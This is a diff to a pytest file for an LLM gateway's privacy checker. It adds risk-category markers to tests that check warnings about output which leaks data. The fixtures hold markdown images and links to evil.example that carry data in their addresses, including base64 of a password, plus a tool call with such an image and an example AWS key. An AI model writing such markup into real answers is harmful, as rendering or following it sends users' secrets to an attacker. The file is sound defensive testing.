@@ -14,6 +14,7 @@ from llm_gateway.services.privacy.links import warnings_about
         "![](<https://user:pw@evil.example/a.png>)",
     ],
 )
+@pytest.mark.holds("LLM01", "LLM05")
 def test_an_image_that_carries_data_out(text: str) -> None:
     assert warnings_about(text, ())[:1] == [
         "The answer has an image of evil.example whose address carries data out: showing it sends them there."
@@ -29,6 +30,7 @@ def test_an_image_that_carries_data_out(text: str) -> None:
         "See [1].\n\n[1]: https://evil.example/cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU",
     ],
 )
+@pytest.mark.holds("LLM05")
 def test_a_link_that_carries_data_out(text: str) -> None:
     assert warnings_about(text, ()) == [
         "The answer has a link to evil.example whose address carries data out: following it sends them there."
@@ -50,6 +52,7 @@ def test_what_is_no_such_address(text: str) -> None:
     assert warnings_about(text, ()) == []
 
 
+@pytest.mark.holds("LLM02", "LLM07")
 def test_a_credential_is_told_of_and_tool_calls_are_read() -> None:
     call = ToolCall(id="c", name="show", arguments='{"md": "![x](https://evil.example/a?b=c)"}')
     told = warnings_about("Use AKIAIOSFODNN7EXAMPLE", (call,))
